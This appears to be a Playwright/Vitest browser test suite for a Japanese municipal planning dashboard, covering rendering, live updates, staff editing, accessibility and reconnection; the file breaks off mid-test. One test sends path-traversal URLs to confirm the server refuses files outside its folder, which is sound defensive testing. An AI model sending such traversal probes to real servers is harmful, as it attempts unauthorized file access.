// The dashboard (packages/dashboard) in Debian's Chromium, served by the real server process at
// /app on the embedded default (PGlite data folder): the FY2012 plans word for word against the
// source document, live updates from writes through the API, publish/unpublish for the public,
// the connection state across a server restart, and staff mode (edit, field error, conflict).
// Screenshots go to test-results/browser/; with UPDATE_SCREENSHOTS=1 also to docs/screenshots/.
import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { createClient, type HoshinClient } from '@hoshin/client';
import { openDatabase, prepareDatabase } from '@hoshin/server/testing';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { AXE_VIEWS, axeViolations, checkView, countByImpact } from '../../scripts/axe.ts';
import { type Browser, chromiumAvailable, launchBrowser, screenshot } from '../support/browser.ts';
import { tokenFor } from '../support/factories.ts';
import { runServer, type ServerProcess } from '../support/process.ts';

const root = resolve(import.meta.dirname, '../..');
const MUNICIPALITY = '132047';

/** The FY2012 source as printed: department -> its 個別事業 (☞ and ※ notes parsed out). */
async function sourcePlans() {
  const text = await readFile(
    resolve(root, '../shared/seed/mitaka-h24-department-goals.txt'),
    'utf8',
  ).catch(() => readFile('/work/shared/seed/mitaka-h24-department-goals.txt', 'utf8'));
  const plans = new Map<string, { text: string; reform: boolean; footnotes: string[] }[]>();
  let current: { text: string; reform: boolean; footnotes: string[] }[] | undefined;
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    if (/^\S+部$/.test(line)) {
      current = [];
      plans.set(line, current);
    } else if (current && line.startsWith('- ※')) {
      current.at(-1)?.footnotes.push(line.slice(3));
    } else if (current && line.startsWith('- ')) {
      const body = line.slice(2);
      current.push({
        text: body.replace(/^☞/, ''),
        reform: body.startsWith('☞'),
        footnotes: [],
      });
    } else if (line.startsWith('◆')) current = undefined;
  }
  return plans;
}

function freePort(): Promise<number> {
  return new Promise((done, fail) => {
    const probe = createServer();
    probe.once('error', fail);
    probe.listen(0, '127.0.0.1', () => {
      const address = probe.address();
      const port = typeof address === 'object' && address ? address.port : 0;
      probe.close(() => done(port));
    });
  });
}

const saveDocs = process.env.UPDATE_SCREENSHOTS === '1';
async function shot(page: Page, name: string) {
  await screenshot(page, `dashboard-${name}`);
  if (saveDocs) {
    const dir = resolve(root, 'docs/screenshots');
    mkdirSync(dir, { recursive: true });
    await page.screenshot({ path: join(dir, `${name}.png`), fullPage: false });
  }
}

const runBrowser = chromiumAvailable();

// One server for the file (starting one takes a while on a busy machine), on a fixed port so
// that the restart test brings it back where the open pages expect it.
let dataDir: string;
let port: number;
let server: ServerProcess;
let planning: HoshinClient;
let editorToken: string;
let planningToken: string;
let adminToken: string;
const env = () => ({
  HOSHIN_DATA_DIR: dataDir,
  PORT: String(port),
  // Live events read every 200 ms instead of 2 s: the test waits less.
  HOSHIN_LIVE_POLL_MS: '200',
  // Several pages reloading on every event from one address.
  HOSHIN_RATE_LIMIT_PER_ADDRESS: '100000',
  // runServer waits for the "hoshin serving" line, logged at info.
  LOG_LEVEL: 'info',
});

beforeAll(async () => {
  // The app as `install` builds it (a no-op when up to date).
  execFileSync(process.execPath, ['scripts/build-dashboard.mjs'], { cwd: root, stdio: 'pipe' });
  dataDir = await mkdtemp(join(tmpdir(), 'hoshin-dashboard-'));
  // Tokens are issued before the server opens the folder: PGlite is single-process.
  const db = await openDatabase({ dataDir });
  await prepareDatabase(db, { seed: true });
  planningToken = await tokenFor(db.prisma, {
    role: 'PLANNING',
    municipality: MUNICIPALITY,
    name: '企画経営課',
  });
  editorToken = await tokenFor(db.prisma, {
    role: 'EDITOR',
    municipality: MUNICIPALITY,
    department: 'kyoiku',
    name: '教育部',
  });
  adminToken = await tokenFor(db.prisma, {
    role: 'ADMIN',
    municipality: MUNICIPALITY,
    name: '管理者',
  });
  await db.close();
  port = await freePort();
  server = await runServer(env(), { startTimeoutMs: 150_000 });
  planning = createClient({ url: `${server.url}/graphql`, token: planningToken });
}, 180_000);

afterAll(async () => {
  if (server && server.child.exitCode === null) await server.stop('SIGKILL');
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
});

describe('the static handler at /app (no browser needed)', () => {
  it('serves the built app, redirects /app, refuses writes and paths outside the folder', async () => {
    const redirect = await fetch(`${server.url}/app?x=1`, { redirect: 'manual' });
    expect(redirect.status).toBe(308);
    expect(redirect.headers.get('location')).toBe('/app/?x=1');
    const index = await fetch(`${server.url}/app/`);
    expect(index.status).toBe(200);
    expect(index.headers.get('content-type')).toContain('text/html');
    const html = await index.text();
    const asset = html.match(/\/app\/assets\/[^"]+\.js/)?.[0];
    if (!asset) throw new Error('no script in index.html');
    const script = await fetch(`${server.url}${asset}`);
    expect(script.status).toBe(200);
    expect(script.headers.get('cache-control')).toContain('immutable');
    expect((await fetch(`${server.url}/app/`, { method: 'POST' })).status).toBe(405);
    for (const path of [
      '/app/../package.json',
      '/app/%2e%2e/package.json',
      '/app/..%2fpackage.json',
    ]) {
      const response = await fetch(`${server.url}${path}`);
      expect(await response.text()).not.toContain('"name": "hoshin"');
    }
    // The API is untouched.
    const api = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: '{ fiscalYear(year: 2012) { label } }' }),
    });
    expect(await api.json()).toMatchObject({ data: { fiscalYear: { label: '平成24年度' } } });
  }, 90_000);
});

describe.skipIf(!runBrowser)('the dashboard in Chromium, served at /app', () => {
  let browser: Browser;
  const appUrl = (hash: string) => `http://127.0.0.1:${port}/app/#/${hash}`;

  /** A mutation the SDK has no ready-made operation for, sent as planning staff. */
  async function mutate(query: string, input: Record<string, unknown>): Promise<string> {
    const response = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${planningToken}` },
      body: JSON.stringify({ query, variables: { input } }),
    });
    const body = (await response.json()) as { data?: Record<string, { __typename: string }> };
    return Object.values(body.data ?? {})[0]?.__typename ?? JSON.stringify(body);
  }
  async function graphqlAs(token: string, query: string, variables: Record<string, unknown>) {
    const response = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ query, variables }),
    });
    return ((await response.json()) as { data: any }).data;
  }
  const updateInitiative = (input: { id: string; expectedVersion: number; text: string }) =>
    mutate(
      'mutation ($input: UpdateInitiativeInput!) { updateInitiative(input: $input) { __typename } }',
      input,
    );
  const unpublishPlan = (input: { id: string; expectedVersion: number }) =>
    mutate(
      'mutation ($input: PlanVersionInput!) { unpublishPlan(input: $input) { __typename } }',
      input,
    );

  // A second browser for a second person: one Chromium opens at most 6 connections to a host
  // over HTTP/1.1, and each open dashboard holds 3 event streams.
  let citizen: Browser;
  /** What the API knows of 教育部's first FY2012 project beyond the source's text. */
  const WHITE_PAPER_URL = 'https://www.city.mitaka.lg.jp/hakusho2013/';
  const EVALUATION_SUMMARY = '新校舎が完成し、開校しました。';
  beforeAll(async () => {
    [browser, citizen] = await Promise.all([launchBrowser(), launchBrowser()]);
    // Evaluated (in a published white paper) and measured against a target, so the views show
    // a project's status and progress as citizens see it (the seed has neither).
    const subject = (await kyoiku2012())?.initiatives.edges[0]?.node;
    if (!subject) throw new Error('no initiative');
    const paper = await graphqlAs(
      planningToken,
      'mutation ($input: CreateWhitePaperInput!) { createWhitePaper(input: $input) { ... on CreateWhitePaperSuccess { whitePaper { id version } } } }',
      {
        input: {
          municipality: MUNICIPALITY,
          title: '三鷹市自治体経営白書2013',
          publicationDate: '2013-07',
          reportsOnFiscalYear: 2012,
          url: WHITE_PAPER_URL,
        },
      },
    );
    const { id, version } = paper.createWhitePaper.whitePaper;
    const evaluation = await graphqlAs(
      planningToken,
      'mutation ($input: RecordEvaluationInput!) { recordEvaluation(input: $input) { __typename } }',
      {
        input: {
          initiative: subject.id,
          rating: 'ACHIEVED',
          progressPercent: 100,
          summary: EVALUATION_SUMMARY,
          decision: 'COMPLETE',
          whitePaper: id,
        },
      },
    );
    expect(evaluation.recordEvaluation.__typename).toBe('RecordEvaluationSuccess');
    const published = await graphqlAs(
      planningToken,
      'mutation ($input: PublishWhitePaperInput!) { publishWhitePaper(input: $input) { __typename } }',
      { input: { id, expectedVersion: version } },
    );
    expect(published.publishWhitePaper.__typename).toBe('PublishWhitePaperSuccess');
    const target = await graphqlAs(
      planningToken,
      'mutation ($input: AddTargetInput!) { addTarget(input: $input) { ... on AddTargetSuccess { target { id } } } }',
      {
        input: {
          initiative: subject.id,
          indicator: '新校舎の工事進捗',
          unit: '%',
          direction: 'AT_LEAST',
          baseline: 0,
          targetValue: 100,
        },
      },
    );
    const actual = await graphqlAs(
      planningToken,
      'mutation ($input: RecordTargetActualInput!) { recordTargetActual(input: $input) { __typename } }',
      {
        input: {
          target: target.addTarget.target.id,
          period: '2012年度末',
          measuredOn: '2013-03-31',
          value: 100,
        },
      },
    );
    expect(actual.recordTargetActual.__typename).toBe('RecordTargetActualSuccess');
  }, 60_000);

  afterEach(async () => {
    for (const page of [...browser.context.pages(), ...citizen.context.pages()]) await page.close();
  });

  afterAll(async () => {
    await browser?.close();
    await citizen?.close();
  });

  async function openPage(hash: string, width = 1000, by = browser) {
    const page = await by.newPage();
    await page.setViewportSize({ width, height: 800 });
    await page.goto(appUrl(hash));
    await expect
      .poll(() => page.getByTestId('connection').getAttribute('data-state'), { timeout: 20_000 })
      .toBe('live');
    // Going live at load is not announced: screen readers hear only a later change.
    expect(await page.getByTestId('connection-announcer').textContent()).toBe('');
    return page;
  }

  const kyoiku = (fiscalYear: number) =>
    planning.departmentPlan({ municipality: MUNICIPALITY, department: 'kyoiku', fiscalYear });
  const kyoiku2012 = () => kyoiku(2012);

  it('renders the 8 FY2012 plans word for word, with ☞, ※ notes, legend and contact', async () => {
    const page = await openPage('browse?y=2012');
    const source = await sourcePlans();
    expect(source.size).toBe(8);
    await expect.poll(() => page.getByTestId('plan').count(), { timeout: 15_000 }).toBe(8);
    const rendered = await page.getByTestId('plan').evaluateAll((articles) =>
      articles.map((article) => ({
        name: article.querySelector('[data-testid=department-name]')?.textContent,
        initiatives: [...article.querySelectorAll('[data-testid=initiative]')].map((li) => ({
          text: li.querySelector('[data-testid=initiative-text]')?.textContent,
          reform: li.querySelector('.reform')?.textContent === '☞',
          footnotes: [...li.querySelectorAll('[data-testid=footnote]')].map((f) => f.textContent),
        })),
      })),
    );
    expect(rendered).toEqual([...source].map(([name, initiatives]) => ({ name, initiatives })));
    await expect
      .poll(() => page.getByTestId('legend').textContent())
      .toBe('☞…行革推進事業(行財政改革の視点から取り組む重点的な事業)');
    expect(await page.getByTestId('contact').textContent()).toContain('☎企画経営課 ☎内線2150');
    await shot(page, 'browse');
    // Phone width: nothing wider than the screen.
    await page.setViewportSize({ width: 390, height: 800 });
    await page.goto(appUrl('browse?y=2012&d=kyoiku'));
    await expect.poll(() => page.getByTestId('plan').count()).toBe(1);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      390,
    );
    await shot(page, 'browse-phone');
    await page.close();
  }, 90_000);

  it('shows a write made through the API in the open view within seconds', async () => {
    const page = await openPage('browse?y=2012&d=kyoiku');
    await expect.poll(() => page.getByTestId('initiative').count()).toBe(3);
    const plan = await kyoiku2012();
    const first = plan?.initiatives.edges[0]?.node;
    if (!first) throw new Error('no initiative');
    const text = `${first.text}(ライブ更新の確認)`;
    expect(await updateInitiative({ id: first.id, expectedVersion: first.version, text })).toBe(
      'UpdateInitiativeSuccess',
    );
    await expect
      .poll(() => page.getByTestId('initiative-text').first().textContent(), { timeout: 10_000 })
      .toBe(text);
    await page.goto(appUrl('live'));
    await expect.poll(() => page.getByTestId('connection').getAttribute('data-state')).toBe('live');
    await shot(page, 'live');
    await page.close();
  }, 90_000);

  it('publishing and unpublishing a plan makes it appear and disappear for the public', async () => {
    const page = await openPage('browse?y=2012');
    await expect.poll(() => page.getByTestId('plan').count(), { timeout: 15_000 }).toBe(8);
    const plan = await kyoiku2012();
    if (!plan) throw new Error('no plan');
    expect(await unpublishPlan({ id: plan.id, expectedVersion: plan.version })).toBe(
      'UnpublishPlanSuccess',
    );
    await expect.poll(() => page.getByTestId('plan').count(), { timeout: 10_000 }).toBe(7);
    expect(await page.locator('[data-department=kyoiku]').count()).toBe(0);
    const again = await planning.publishPlan({ id: plan.id, expectedVersion: plan.version + 1 });
    expect(again.__typename).toBe('PublishPlanSuccess');
    await expect.poll(() => page.getByTestId('plan').count(), { timeout: 10_000 }).toBe(8);
    expect(await page.locator('[data-department=kyoiku]').count()).toBe(1);
    await page.close();
  }, 90_000);

  it('staff mode: drafts within scope, an edit, a field error, a version conflict, publishing', async () => {
    const created = await planning.createPlan({
      municipality: MUNICIPALITY,
      department: 'kyoiku',
      fiscalYear: 2013,
      mission: '子どもたちの学びを地域とともに支えます。',
    });
    if (created.__typename !== 'CreatePlanSuccess') throw new Error(created.__typename);
    const draft = created.plan;
    for (const text of [
      // Carried on from FY2012 (same text); the next one is new.
      '三鷹中央学園第三小学校の建て替え工事を進め、年内の新校舎完成を目指します。',
      '新しい学校図書館の運営方法を検討します。',
    ])
      await planning.addInitiative({ plan: draft.id, text });

    // The public does not see the draft year.
    const pub = await openPage('browse?y=2013&d=kyoiku', 1000, citizen);
    await expect.poll(() => pub.getByTestId('no-plans').count(), { timeout: 10_000 }).toBe(1);

    const page = await openPage('staff');
    await page.getByTestId('token-input').fill(editorToken);
    await page.getByRole('button', { name: '使用する' }).click();
    const link = page.getByTestId('staff-plan-link').filter({ hasText: '平成25年度' });
    await expect.poll(() => link.count(), { timeout: 15_000 }).toBe(1);
    await link.click();
    const mission = page.getByLabel('① 部の使命・目標に関する認識');
    await expect.poll(() => mission.inputValue(), { timeout: 10_000 }).toBe(draft.mission);

    // A typed field error beside its field.
    await page.getByLabel('職員数').fill('-5');
    await page.getByTestId('save-plan').click();
    await expect
      .poll(() => page.getByTestId('error-staffCount').count(), { timeout: 10_000 })
      .toBe(1);
    expect(await page.getByLabel('職員数').getAttribute('aria-invalid')).toBe('true');

    // An edit, saved.
    await page.getByLabel('職員数').fill('120');
    await mission.fill('地域とともに、子どもたちの学びを支えます。');
    await page.getByTestId('save-plan').click();
    await expect.poll(() => page.getByTestId('saved').count(), { timeout: 10_000 }).toBe(1);
    const afterEdit = await planning.departmentPlan({
      municipality: MUNICIPALITY,
      department: 'kyoiku',
      fiscalYear: 2013,
    });
    expect(afterEdit?.mission).toBe('地域とともに、子どもたちの学びを支えます。');
    expect(afterEdit?.staffCount).toBe(120);
    await shot(page, 'staff');

    // Someone else writes in between: saving is a conflict that offers a reload.
    await expect
      .poll(() => mission.inputValue())
      .toBe('地域とともに、子どもたちの学びを支えます。');
    await mission.fill('編集中の文');
    if (!afterEdit) throw new Error('no plan');
    const other = await planning.updatePlan({
      id: afterEdit.id,
      expectedVersion: afterEdit.version,
      policy: '企画経営課が先に書いた方針',
    });
    expect(other.__typename).toBe('UpdatePlanSuccess');
    await page.getByTestId('save-plan').click();
    await expect.poll(() => page.getByTestId('conflict').count(), { timeout: 10_000 }).toBe(1);
    await shot(page, 'staff-conflict');
    await page.getByTestId('reload').click();
    await expect
      .poll(() => page.getByLabel('③ 今年度の実施方針と個別事業').inputValue(), { timeout: 10_000 })
      .toBe('企画経営課が先に書いた方針');

    // Two saves in a row: the version the first returned is carried into the second.
    await mission.fill('二度目の保存で書いた使命');
    await page.getByTestId('save-plan').click();
    await expect.poll(() => page.getByTestId('saved').count(), { timeout: 10_000 }).toBe(1);
    await mission.fill('三度目の保存で書いた使命');
    await page.getByTestId('save-plan').click();
    await expect
      .poll(async () => (await kyoiku(2013))?.mission, { timeout: 10_000 })
      .toBe('三度目の保存で書いた使命');
    expect(await page.getByTestId('conflict').count()).toBe(0);

    // A save lost in transit says so and keeps the edit; saving again then works.
    await page.route('**/graphql', (route) =>
      route.request().method() === 'POST' && route.request().postData()?.includes('UpdatePlan')
        ? route.abort('connectionreset')
        : route.continue(),
    );
    await mission.fill('通信が切れても消えない編集');
    await page.getByTestId('save-plan').click();
    await expect
      .poll(() => page.getByTestId('write-error').textContent(), { timeout: 10_000 })
      .toContain('通信エラー');
    expect(await page.getByTestId('saved').count()).toBe(0);
    expect(await mission.inputValue()).toBe('通信が切れても消えない編集');
    await page.unroute('**/graphql');
    await page.getByTestId('save-plan').click();
    await expect.poll(() => page.getByTestId('saved').count(), { timeout: 10_000 }).toBe(1);
    expect((await kyoiku(2013))?.mission).toBe('通信が切れても消えない編集');

    // A field error in Japanese, not the validator's English.
    await page.getByLabel('職員数').fill('-1');
    await page.getByTestId('save-plan').click();
    await expect
      .poll(() => page.getByTestId('error-staffCount').textContent(), { timeout: 10_000 })
      .toMatch(/[ぁ-んァ-ン一-龥]/);
    expect(await page.getByTestId('error-staffCount').textContent()).not.toMatch(/[A-Za-z]/);
    await page.getByLabel('職員数').fill('120');

    // The editor is not offered publishing (the server says it may not); planning staff are.
    expect(await page.getByTestId('toggle-publish').count()).toBe(0);
    await page.getByRole('button', { name: 'トークンを消去' }).click();
    await page.getByTestId('token-input').fill(planningToken);
    await page.getByRole('button', { name: '使用する' }).click();
    await page.goto(appUrl('staff?y=2013&d=kyoiku'));
    await page.getByTestId('toggle-publish').click();
    // Published: the public page (still open) shows it, live.
    await expect.poll(() => pub.getByTestId('plan').count(), { timeout: 10_000 }).toBe(1);

    await pub.goto(appUrl('compare?d=kyoiku&y=2013'));
    await expect.poll(() => pub.getByTestId('compare-year').count(), { timeout: 10_000 }).toBe(2);
    // The page shows the API's own comparison (initiative chains), not a text match of its own:
    // the FY2013 project with FY2012's exact wording is new until an evaluation carries it on.
    const timeline = (await (
      await fetch(`${server.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          query: `{ departmentTimeline(municipality: "${MUNICIPALITY}", department: "kyoiku", fiscalYears: { from: 2012, to: 2013 }) { carriedOn { to { text } } new { text } ended { text } } }`,
        }),
      })
    ).json()) as {
      data: {
        departmentTimeline: {
          carriedOn: { to: { text: string } }[];
          new: { text: string }[];
          ended: { text: string }[];
        }[];
      };
    };
    const fy2013 = timeline.data.departmentTimeline[1];
    if (!fy2013) throw new Error('no FY2013 in the timeline');
    const texts = (kind: string) =>
      pub.getByTestId(`diff-${kind}`).evaluateAll((items) => items.map((li) => li.textContent));
    const shown = async (kind: string) => (await texts(kind)).length;
    expect(await shown('carried')).toBe(fy2013.carriedOn.length);
    expect(await shown('added')).toBe(fy2013.new.length);
    expect(await shown('ended')).toBe(fy2013.ended.length);
    expect(fy2013.new.map((i) => i.text)).toContain(
      '三鷹中央学園第三小学校の建て替え工事を進め、年内の新校舎完成を目指します。',
    );
    await shot(pub, 'compare');
    await pub.goto(appUrl('summary?y=2012'));
    await expect.poll(() => pub.getByTestId('initiative-count').textContent()).toBe('24');
    await shot(pub, 'summary');
    // The year's open-data landing page (package, catalogue, feed) is one link away.
    const landing = (await pub.getByTestId('open-data').getAttribute('href')) as string;
    expect(landing).toBe(`${server.url}/open-data/${MUNICIPALITY}/2012/`);
    expect((await fetch(landing)).status).toBe(200);
    await page.close();
    await pub.close();
  }, 90_000);

  it('ten tabs in one browser all load and stay live (one connection per tab)', async () => {
    const tabs: Page[] = [];
    const sockets: number[] = Array(10).fill(0);
    const eventStreams: string[] = [];
    for (let i = 0; i < 10; i++) {
      const tab = await browser.newPage();
      tab.on('websocket', () => {
        sockets[i] = (sockets[i] ?? 0) + 1;
      });
      tab.on('request', (request) => {
        if ((request.headers().accept ?? '').includes('text/event-stream'))
          eventStreams.push(request.url());
      });
      await tab.goto(appUrl('browse?y=2012&d=kyoiku'));
      await expect
        .poll(() => tab.getByTestId('connection').getAttribute('data-state'), { timeout: 20_000 })
        .toBe('live');
      tabs.push(tab);
    }
    for (const tab of tabs)
      await expect.poll(() => tab.getByTestId('initiative').count()).toBeGreaterThan(2);
    // Each tab carries its three subscriptions over one WebSocket: no event stream over HTTP.
    expect(sockets).toEqual(Array(10).fill(1));
    expect(eventStreams).toEqual([]);
    const plan = await kyoiku2012();
    const first = plan?.initiatives.edges[0]?.node;
    if (!first) throw new Error('no initiative');
    const text = `${first.text}(十のタブ)`;
    expect(await updateInitiative({ id: first.id, expectedVersion: first.version, text })).toBe(
      'UpdateInitiativeSuccess',
    );
    for (const tab of tabs)
      await expect
        .poll(() => tab.getByTestId('initiative-text').first().textContent(), { timeout: 15_000 })
        .toBe(text);
    for (const tab of tabs) await tab.close();
  }, 120_000);

  it('a wrong token says so and leaves the public view working', async () => {
    const page = await browser.newPage();
    await page.goto(appUrl('staff'));
    await page.getByTestId('token-input').fill('hsn_not_a_real_token_0000000000');
    await page.getByRole('button', { name: '使用する' }).click();
    await expect.poll(() => page.getByTestId('token-invalid').count(), { timeout: 15_000 }).toBe(1);
    await page.goto(appUrl('browse?y=2012'));
    await expect.poll(() => page.getByTestId('plan').count(), { timeout: 15_000 }).toBe(8);
    expect(await page.getByTestId('token-invalid-badge').count()).toBe(1);
    await shot(page, 'token-invalid');
    await expect
      .poll(() => page.getByTestId('connection').getAttribute('data-state'), { timeout: 20_000 })
      .toBe('live');
    await page.close();
  }, 60_000);

  it('every view: no serious or critical axe violation, a title of its own, focus on its heading', async () => {
    // The views and the axe run are scripts/axe.ts's, as `tsx scripts/axe-report.ts` reports them.
    const counts: Record<string, string> = {};
    for (const view of AXE_VIEWS) {
      const outcome = await checkView(() => browser.newPage(), server.url, view, {
        staffToken: planningToken,
      });
      expect(outcome.ready, `${view.name}: never showed ${view.ready.join(', ')}`).toBe(true);
      expect(outcome.title).toBe(view.title);
      expect(outcome.headings, `${view.name}: h1 in main`).toBe(1);
      const bad = outcome.violations.filter(
        (v) => v.impact === 'serious' || v.impact === 'critical',
      );
      counts[view.name] = JSON.stringify(countByImpact(outcome.violations));
      expect(bad, `${view.name}: ${JSON.stringify(bad)}`).toEqual([]);
    }
    console.log(`axe violations per view: ${JSON.stringify(counts)}`);
    const page = await openPage('browse?y=2012&d=kyoiku');
    // The skip link moves focus to the content and leaves the route (and its choices) alone.
    await page.goto(appUrl('browse?y=2012&d=kyoiku'));
    await page.reload();
    await expect.poll(() => page.getByTestId('plan').count()).toBe(1);
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('本文へ移動');
    await page.keyboard.press('Enter');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('main');
    expect(page.url()).toContain('browse?y=2012&d=kyoiku');
    // A keyboard move to another view puts focus on that view's heading.
    await page.getByRole('navigation', { name: 'pages' }).getByText('年度集計').focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('H1');
    await page.close();
  }, 180_000);

  it('the development server (npx pnpm dashboard) shows the FY2012 plans from a running server', async () => {
    const devPort = await freePort();
    const vite = spawn(
      process.execPath,
      [
        resolve(root, 'packages/dashboard/node_modules/vite/bin/vite.js'),
        '--port',
        String(devPort),
        '--strictPort',
      ],
      {
        cwd: resolve(root, 'packages/dashboard'),
        env: { ...process.env, VITE_HOSHIN_URL: `${server.url}/graphql` },
        stdio: 'pipe',
      },
    );
    try {
      const output: string[] = [];
      vite.stdout?.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      vite.stderr?.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      await expect
        .poll(() => output.join('').includes(`${devPort}`), { timeout: 30_000 })
        .toBe(true);
      const page = await browser.newPage();
      await page.goto(`http://127.0.0.1:${devPort}/#/browse?y=2012`);
      await expect.poll(() => page.getByTestId('plan').count(), { timeout: 30_000 }).toBe(8);
      await expect
        .poll(() => page.getByTestId('connection').getAttribute('data-state'), { timeout: 20_000 })
        .toBe('live');
      await page.close();
    } finally {
      vite.kill('SIGTERM');
    }
  }, 90_000);

  it('what citizens look for: search with highlights, the ☞ filter, the API’s labels, a feedback form, 記載なし once', async () => {
    const page = await openPage('search?q=すくーる&y=2012');
    // Japanese-aware: hiragana finds the katakana text; the server's snippet marks the match.
    await expect
      .poll(() => page.getByTestId('search-result').count(), { timeout: 15_000 })
      .toBeGreaterThan(0);
    expect(await page.locator('[data-testid="search-result"] mark').first().textContent()).toBe(
      'スクール',
    );
    await shot(page, 'search');
    // ☞ only, every word: the year's reform projects, each shown with ☞.
    await page.goto(appUrl('search?y=2012'));
    await page.getByTestId('reform-only').check();
    await expect.poll(() => page.url()).toContain('r=1');
    await expect
      .poll(async () => {
        const results = await page.getByTestId('search-result').count();
        const reform = await page.locator('[data-testid="search-result"] .reform').count();
        return results > 0 && results === reform;
      })
      .toBe(true);

    // A project's status and progress: the evaluation in the API's Japanese labels with its
    // summary and white paper, the target with its status and the rule's reason.
    await page.goto(appUrl('browse?y=2012&d=kyoiku'));
    const evaluated = page.getByTestId('initiative').first();
    await expect.poll(() => evaluated.getByTestId('rating').textContent()).toBe('達成');
    expect(await evaluated.getByTestId('evaluation').textContent()).toContain('100%');
    expect(await evaluated.getByTestId('evaluation').textContent()).toContain(EVALUATION_SUMMARY);
    expect(await evaluated.getByTestId('white-paper').getAttribute('href')).toBe(WHITE_PAPER_URL);
    expect(await evaluated.getByTestId('white-paper').textContent()).toBe(
      '三鷹市自治体経営白書2013',
    );
    const target = evaluated.getByTestId('target');
    expect(await target.textContent()).toContain('新校舎の工事進捗');
    expect(await target.locator('.badge.status').textContent()).toBe('達成');
    expect(await target.locator('small').textContent()).toContain('最新の実績 100');
    await shot(page, 'browse-achievement');
    // The open data of the view and its field dictionary, both served.
    for (const link of await page.getByTestId('open-data-links').locator('a').all()) {
      const href = new URL((await link.getAttribute('href')) as string, page.url()).toString();
      expect((await fetch(href)).status, href).toBe(200);
    }
    expect(await page.getByTestId('open-data-links').getByText('データ辞書').count()).toBe(1);
    // Each plan: what the source leaves out said once at most; last updated; feedback.
    await page.goto(appUrl('browse?y=2012'));
    await expect.poll(() => page.getByTestId('plan').count()).toBe(8);
    for (const plan of await page.getByTestId('plan').all()) {
      expect(await plan.getByTestId('not-stated').count()).toBeLessThanOrEqual(1);
      expect(await plan.getByText('(記載なし)').count()).toBe(0);
      expect(await plan.getByTestId('updated').count()).toBe(1);
    }
    // Printed, the browse view is the city's page alone: A4, no navigation, forms or live
    // state; ① ② ③ (or what the source leaves out), ☞ with its legend and ※ notes as printed.
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('header.top').isVisible()).toBe(false);
    expect(await page.locator('details.feedback').first().isVisible()).toBe(false);
    expect(await page.getByTestId('connection').isVisible()).toBe(false);
    const printed = await page.getByTestId('plan').evaluateAll((plans) =>
      plans.map((plan) => {
        const shown = (el: Element) => (el as HTMLElement).offsetParent !== null;
        const texts = (selector: string) =>
          [...plan.querySelectorAll(selector)].filter(shown).map((el) => el.textContent ?? '');
        return {
          shown: shown(plan),
          parts: texts('h3, [data-testid=not-stated]').join(' '),
          reform: [...plan.querySelectorAll('.reform')].map(shown),
          notes: [...plan.querySelectorAll('.footnote')].map(shown),
        };
      }),
    );
    for (const plan of printed) {
      expect(plan.shown).toBe(true);
      for (const part of ['①', '②', '③']) expect(plan.parts).toContain(part);
      expect(plan.reform.every(Boolean) && plan.notes.every(Boolean)).toBe(true);
    }
    expect(printed.flatMap((plan) => plan.reform).length).toBeGreaterThan(0);
    expect(printed.flatMap((plan) => plan.notes).length).toBeGreaterThan(0);
    expect(await page.getByTestId('legend').isVisible()).toBe(true);
    // The page size is the stylesheet's (@page): without it Chromium prints on US Letter.
    const pdf = await page.pdf({ preferCSSPageSize: true });
    const box = pdf.toString('latin1').match(/\/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]/);
    expect([Math.round(Number(box?.[1]) / 2.835), Math.round(Number(box?.[2]) / 2.835)]).toEqual([
      210, 297,
    ]);
    await page.emulateMedia({ media: 'screen' });
    const first = page.getByTestId('plan').first();
    await first.locator('details.feedback summary').click();
    // The moderation notice comes before the form.
    expect(await first.locator('details.feedback').textContent()).toContain(
      '企画経営課が確認してから公開します',
    );
    await first.getByLabel('ご意見(2000字以内)').fill('図書館の開館時間を延ばしてください。');
    await first.getByRole('button', { name: '送信' }).click();
    await expect
      .poll(() => first.getByTestId('feedback-outcome').textContent(), { timeout: 10_000 })
      .toContain('受け付けました');
    await shot(page, 'browse-citizen');

    // The live log names what changed in the API's Japanese labels, not enum codes.
    await page.goto(appUrl('live'));
    const plan = await kyoiku2012();
    const node = plan?.initiatives.edges[1]?.node;
    if (!node) throw new Error('no initiative');
    expect(
      await updateInitiative({
        id: node.id,
        expectedVersion: node.version,
        text: `${node.text}。`,
      }),
    ).toBe('UpdateInitiativeSuccess');
    await expect
      .poll(() => page.getByTestId('event-kind').first().textContent(), { timeout: 15_000 })
      .not.toMatch(/^[A-Z_]+$/);
    expect(await page.getByTestId('event-name').first().textContent()).toBe(`${node.text}。`);
    await shot(page, 'live-labels');
    await page.close();
  }, 90_000);

  it('shows "retrying" while the server is stopped and catches up after it returns', async () => {
    const page = await openPage('browse?y=2012&d=kyoiku');
    await server.stop('SIGTERM');
    await expect
      .poll(() => page.getByTestId('connection').getAttribute('data-state'), { timeout: 15_000 })
      .toBe('retrying');
    expect(await page.getByTestId('connection').textContent()).toContain('再接続中');
    expect(await page.getByTestId('connection-announcer').textContent()).toContain('再接続中');
    // The badge in this state is readable too (the axe views see it live; a loaded run once
    // caught it connecting, in a colour below 4.5:1 on its grey).
    const unreadable = (await axeViolations(page)).filter((v) => v.id === 'color-contrast');
    expect(unreadable).toEqual([]);
    await shot(page, 'retrying');
